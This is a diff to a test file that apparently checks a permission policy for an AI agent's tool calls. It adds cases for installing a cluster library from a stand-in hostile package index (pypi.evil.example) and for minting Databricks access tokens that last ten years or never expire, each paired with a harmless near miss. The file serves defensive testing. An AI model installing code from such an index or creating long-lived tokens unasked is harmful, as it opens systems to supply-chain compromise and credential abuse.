@@ -410,3 +410,43 @@ policyTable('sql-server-side-effects', [
     expect: null,
   },
 ]);
+
+policyTable('package-from-untrusted-source', [
+  {
+    note: "an MCP tool installing a cluster library from an outside index (nested in the tool's arguments)",
+    spec: {
+      tool: 'mcp__databricks__install_libraries',
+      input: {
+        cluster_id: 'c1',
+        libraries: [{ pypi: { package: 'acme-dq', repo: 'https://pypi.evil.example/simple' } }],
+      },
+    },
+    expect: 'ask',
+  },
+  {
+    note: 'near miss: the same library by name',
+    spec: {
+      tool: 'mcp__databricks__install_libraries',
+      input: { cluster_id: 'c1', libraries: [{ pypi: { package: 'acme-dq' } }] },
+    },
+    expect: null,
+  },
+]);
+
+policyTable('data-platform-destructive', [
+  {
+    note: 'a personal access token minted',
+    spec: at('databricks tokens create --comment ci --lifetime-seconds 315360000'),
+    expect: 'ask',
+  },
+  { note: 'near miss: tokens listed', spec: at('databricks tokens list'), expect: null },
+]);
+
+policyTable('data-platform-destructive', [
+  {
+    note: 'near miss: a one-hour token',
+    spec: at('databricks tokens create --comment debug --lifetime-seconds 3600'),
+    expect: null,
+  },
+  { note: 'a token that never expires', spec: at('databricks tokens create --comment ci'), expect: 'ask' },
+]);
